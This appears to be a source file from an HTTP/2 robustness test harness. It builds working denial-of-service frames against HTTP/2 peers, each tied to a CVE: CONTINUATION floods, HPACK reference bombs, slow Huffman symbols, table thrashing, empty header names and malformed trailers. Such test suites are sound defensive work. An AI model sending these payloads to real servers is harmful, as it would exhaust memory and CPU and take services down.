"""A03 CONTINUATION floods, A04 the HTTP/2 bomb, A05 HPACK bombs, A11 empty names, A21 and B-like malformed sections."""

from messages import HELD, RESPONSE, TRAILERS, request, request_block
from wire import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, Attack, frame, indexed_literal, integer, literal, split, window

EVERYWHERE = ("client", "mesh", "backend")
# The newest entry of the dynamic table, as an indexed field of one byte.
NEWEST = b"\xbe"


class ContinuationFlood(Attack):
    """CVE-2024-27316 and relatives: a header block without an end."""

    positions = EVERYWHERE

    def __init__(self, piece):
        self.piece = piece

    def begin(self, peer):
        # An acknowledgement between the pieces would end it for another reason.
        peer.state["never_acknowledges"] = True
        head = RESPONSE if peer.is_server else HELD
        return frame(HEADERS, 0, peer.state["requested"] if peer.is_server else peer.open_stream(), head)

    def step(self, peer):
        return frame(CONTINUATION, 0, peer.state["requested"] if peer.is_server else 1, self.piece) * 20


class Bomb(Attack):
    """CVE-2026-49975, CVE-2026-47774: one byte on the wire names one field; 31,000 in each of 100 requests, held by a
    window of zero and a drip of one byte."""

    positions = EVERYWHERE
    settings = {4: 0}

    def __init__(self, entry, refs, where="head"):
        self.entry = entry
        self.refs = refs
        self.where = where

    def refer(self, peer):
        """The entry itself at the connection's first use, then references to it."""
        if peer.state.get("indexed"):
            return NEWEST * self.refs
        peer.state["indexed"] = True
        return indexed_literal(*self.entry) + NEWEST * (self.refs - 1)

    def step(self, peer):
        if peer.is_server or peer.steps >= 100 * peer.target.scale:
            return b""
        stream = peer.open_stream()
        if self.where == "trailers":
            return request(stream, HELD) + split(self.refer(peer), stream, END_STREAM)
        return split(HELD + self.refer(peer), stream)

    def on_request(self, peer, stream):
        if self.where == "trailers":
            return frame(HEADERS, END_HEADERS, stream, RESPONSE) + split(self.refer(peer), stream, END_STREAM)
        return split(RESPONSE + self.refer(peer), stream)

    def tick(self, peer):
        return window(0, 1) if not peer.is_server and peer.steps % 10 == 0 else b""


class TableBomb(Bomb):
    """CVE-2016-6581: references to an entry that fills the table, 4096 to one."""

    def __init__(self):
        super().__init__((b"x", b"y" * 4000), 16000)


class OneBlock(Attack):
    """A header block that is itself the attack."""

    positions = EVERYWHERE
    bytes_factor = 10

    def __init__(self, extra, first=b""):
        self.extra = extra
        self.first = first

    def step(self, peer):
        if peer.is_server:
            return b""
        return split(self.first + HELD + self.extra, peer.open_stream())

    def on_request(self, peer, stream):
        return split(self.first + RESPONSE + self.extra, stream)


class Huffman(OneBlock):
    """The slowest symbols to decode, as much of them as a header list may have."""

    def __init__(self):
        # 0x0a is a 30-bit symbol: 3.75 bytes on the wire for each byte of text.
        bits = "".join("111111111111111111111111111100" for _ in range(3000))
        bits += "1" * (-len(bits) % 8)
        coded = int(bits, 2).to_bytes(len(bits) // 8, "big")
        name = b"\x00\x01x"
        value = bytearray(integer(len(coded), 7))
        value[0] |= 0x80
        super().__init__(name + bytes(value) + coded)


class TableThrash(Attack):
    """Size updates that empty and refill the table with each request; two per block are allowed."""

    positions = EVERYWHERE
    bytes_factor = 10

    def thrash(self):
        # To 0 and back to 4096, then an entry that fills it.
        return b"\x20\x3f\xe1\x1f"

    def step(self, peer):
        if peer.is_server:
            return b""
        stream = peer.open_stream()
        filled = indexed_literal(b"x-fill", b"z" * 3900)
        return split(self.thrash() + request_block([("x-hold", "1")]) + filled, stream)

    def on_request(self, peer, stream):
        return split(self.thrash() + RESPONSE + indexed_literal(b"x-fill", b"z" * 3900), stream)


class TrailersWithoutEnd(Attack):
    """CVE-2026-73513: a second header section that does not end the stream, and data after it."""

    positions = EVERYWHERE

    def step(self, peer):
        if peer.is_server:
            return b""
        stream = peer.open_stream()
        return request(stream, HELD) + frame(HEADERS, END_HEADERS, stream, TRAILERS) + frame(0, 0, stream, b"after" * 50)

    def on_request(self, peer, stream):
        return (
            frame(HEADERS, END_HEADERS, stream, RESPONSE)
            + frame(HEADERS, END_HEADERS, stream, TRAILERS)
            + frame(0, 0, stream, b"after" * 50)
        )


class AfterTheError(Attack):
    """CVE-2026-27135: everything after a connection error must be ignored, whatever it is."""

    positions = EVERYWHERE

    def step(self, peer):
        stream = peer.open_stream() if not peer.is_server else peer.state["requested"]
        broken = frame(0, 0, 0, b"DATA on stream 0")
        return broken + split(HELD, stream) + frame(7, 0, 0, b"\xff" * 8) + frame(4, 0, 0, b"\0\4\xff\xff\xff\xff") + b"\0\xff" * 500


ATTACKS = {
    "A03 continuation-16k": ContinuationFlood(b"\x00" + integer(1, 7) + b"x" + integer(16300, 7) + b"y" * 16300),
    "A03 continuation-1-byte": ContinuationFlood(b"\x90"),
    "A03 continuation-0-byte": ContinuationFlood(b""),
    "A04 bomb-fields": Bomb((b"a", b""), 31000),
    "A04 bomb-cookies": Bomb((b"cookie", b"a=b"), 31000),
    "A04 bomb-trailers": Bomb((b"a", b""), 31000, "trailers"),
    "A04 bomb-within-limits": Bomb((b"a", b"b" * 90), 90),
    "A05 hpack-bomb": TableBomb(),
    "A05 three-size-updates": OneBlock(b"", first=b"\x20\x20\x20"),
    "A05 size-update-inside": OneBlock(b"\x20"),
    "A05 huffman": Huffman(),
    "A05 table-thrash": TableThrash(),
    "A11 empty-name": OneBlock(literal(b"", b"x")),
    "A11 empty-name-and-value": OneBlock(literal(b"", b"") * 50),
    "A21 trailers-without-end": TrailersWithoutEnd(),
    "A21 after-the-error": AfterTheError(),
}
